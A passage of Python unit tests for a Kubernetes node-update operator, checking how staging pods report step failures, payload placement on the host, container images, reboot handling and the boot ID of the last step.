    started = {"startedAt": "2026-11-30T10:00:01Z"}
    tuned_runs = {"name": "post-interrupt-tuned", "state": {"running": started}}
    pod["status"] = {"phase": "Running", "containerStatuses": [
        _terminated("post-interrupt-base", 3, "base failed"), tuned_runs]}
    view = stage_pod_view(pod)
    assert view.phase == "running" and not stage_pod_ended(pod) and view.current_step is not None
    assert view.current_step.package == "tuned"
    pod["status"]["containerStatuses"][1] = _terminated("post-interrupt-tuned", 0)
    view = stage_pod_view(pod)
    assert view.phase == "failed" and view.done == 1 and view.message == "base failed"
    assert view.failed_step is not None and view.failed_step.package == "base"
    # The first in order failed: the pod's failure at once, whatever runs after it and the kubelet's order.
    pod["status"]["containerStatuses"] = [{"name": "post-interrupt-base", "state": {"running": started}},
                                          _terminated("post-interrupt-tuned", 4, "tuned failed")]
    view = stage_pod_view(pod)
    assert (view.phase, view.done, view.message) == ("failed", 0, "tuned failed") and stage_pod_ended(pod)
    assert view.failed_step is not None and view.failed_step.package == "tuned"
    # Each check's own outcome for the metrics: one that passed after the failed one is not counted failed.
    pod["status"]["containerStatuses"] = [
        {"name": "post-interrupt-base", "state": {"terminated": {"exitCode": 0, **started,
                                                                 "finishedAt": "2026-11-30T10:00:02Z"}}},
        {"name": "post-interrupt-tuned", "state": {"terminated": {"exitCode": 4, **started,
                                                                  "finishedAt": "2026-11-30T10:00:03Z"}}}]
    assert [(s.package, outcome) for s, outcome, _ in step_runs(pod)] == [("tuned", "failed"), ("base", "succeeded")]
    # Ended by its phase (past its deadline) with the first check still shown running: that check failed,
    # with the pod's reason, not the message of a check after it.
    pod["status"] = {"phase": "Failed", "reason": "DeadlineExceeded", "message": "past it", "containerStatuses": [
        _terminated("post-interrupt-base", 3, "base failed"), tuned_runs]}
    view = stage_pod_view(pod)
    assert view.failed_step is not None and view.failed_step.package == "tuned"
    assert view.message == "DeadlineExceeded: past it"


def test_a_stage_whose_payload_the_staging_placed_reads_it_on_the_host_and_every_step_names_its_image() -> None:
    """`PodRequest.payload_on_host` (the round's staging placed the payload): no copy container, volume or mount for
    that package; every package step names its image (`--payload-image`): recorded with a copy, held against
    the host's record by a step that reads the host's."""
    req = replace(request(("base", "apply"), ("tuned", "apply")), payload_on_host=frozenset({"tuned"}))
    spec = stage_pod(gate(), "n", req, SETTINGS)["spec"]
    names = [c["name"] for c in spec["initContainers"] + spec["containers"]]
    assert names == ["payload-base", "apply-base", "apply-tuned"]
    by_name = {c["name"]: c for c in spec["initContainers"] + spec["containers"]}
    tuned, base = by_name["apply-tuned"]["args"], by_name["apply-base"]["args"]
    assert "--payload-on-host" in tuned and "--payload" not in tuned
    assert tuned[tuned.index("--payload-image") + 1] == "registry.example.com:5000/team/tuned:1.2.0"
    assert base[base.index("--payload-image") + 1] == by_name["payload-base"]["image"]
    assert "payload-tuned" not in {v["name"] for v in spec["volumes"]}


def test_a_pod_that_ends_with_a_reboot_keeps_its_chain_and_a_staging_pod_says_the_boot_of_its_last_step() -> None:
    """A reboot wipes the node's containers: the new boot knows how the steps before it ended only from the
    status the kubelet posted before it, which a chain guarantees (the reboot starts once the kubelet saw them
    end) and steps in turn do not. A staging pod in turn says the boot its last step in order ended on,
    whatever the kubelet's order."""
    reboot = PodRequest(name="ng-r", kind="stages", interrupt=Interrupt(type="reboot"),
                        steps=(Step("tuned", "apply", "fp", "1.2.0"), Step("base", "apply", "fp", "2.0.0"),
                               Step(None, "interrupt", "reboot:")))
    pod = stage_pod(gate(), "n", reboot, SETTINGS)
    assert _names(pod["spec"]) == (["payload-tuned", "apply-tuned", "payload-base", "apply-base"], ["interrupt"])
    assert keys.IN_TURN_LABEL not in pod["metadata"]["labels"] and _turns(pod["spec"]) == [None]
    # The reboot is asked for once per pod (gate.agent.reboots): its step names the pod by the UID the kubelet
    # gives it, never by a value of the operator's, so a pod run again on a later boot finds its own record.
    assert pod["spec"]["containers"][0]["env"] == [
        {"name": "NODEGATE_POD_UID", "valueFrom": {"fieldRef": {"fieldPath": "metadata.uid"}}}]
    restart = stage_pod(gate(), "n", replace(reboot, interrupt=Interrupt(type="service", services=["a"]),
                                             steps=(*reboot.steps[:2], Step(None, "interrupt", "service:a"))), SETTINGS)
    assert _names(restart["spec"]) == (["payload-tuned", "payload-base"], ["apply-tuned", "apply-base", "interrupt"])
    assert restart["spec"]["containers"][2]["env"] == []
    staging = stage_pod(gate(), "n", PodRequest(name="ng-staging-y", kind="staging", part="serving", steps=(
        Step("tuned", "apply", "fp", version="1.2.0"), Step("base", "apply", "fp", version="2.0.0"))), SETTINGS)
    staging["status"] = {"phase": "Succeeded", "containerStatuses": [
        _terminated("apply-base", 0, json.dumps({"ok": True, "bootId": "boot-late"})),
        _terminated("apply-tuned", 0, json.dumps({"ok": True, "bootId": "boot-early"}))]}
    assert stage_pod_view(staging).boot_id == "boot-late"
